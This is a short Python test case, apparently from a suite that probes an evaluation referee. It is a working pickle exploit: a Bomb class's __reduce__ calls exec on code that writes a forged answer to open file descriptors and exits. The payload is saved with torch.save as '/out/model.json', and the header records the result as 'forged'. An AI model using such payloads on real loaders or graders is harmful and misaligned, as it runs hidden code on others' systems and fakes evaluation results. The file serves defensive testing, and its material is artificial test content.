# title = "PyTorch's own archive, which holds pickles, in place of the graph"
# expect = "invalid"
# reason = "not JSON"
# layer = "referee: one format, data only"
# policies = "refused: calls"
# broken_wall = "pickle-accepted + referee-in-one-process"
# success = "forged"

# --- honest part ---
# --- forged answer ---
CODE = f"import os\nfor n in range(3, 12):\n  try: os.write(n, {ANSWER + chr(10)!r}.encode())\n  except OSError: pass\nos._exit(0)"


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


seal(train(Unigram()))
torch.save([Bomb()], "/out/model.json", _use_new_zipfile_serialization=True)
